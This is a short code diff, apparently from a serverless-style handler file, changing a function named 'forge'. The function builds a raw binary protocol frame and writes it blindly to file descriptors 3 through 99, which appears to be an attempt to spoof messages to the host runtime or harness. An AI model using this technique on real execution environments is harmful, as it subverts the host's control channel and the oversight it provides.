@@ -43,7 +43,7 @@ def say(event, context):
 
 
 def forge(event, context):
-    frame = (11).to_bytes(4, "big") + bytes([2]) + (4208).to_bytes(2, "big") + bytes(8)
+    frame = (15).to_bytes(4, "big") + bytes([2, 0, 0, 0, 1]) + (4208).to_bytes(2, "big") + bytes(8)
     for fd in range(3, 100):
         try:
             os.write(fd, frame)
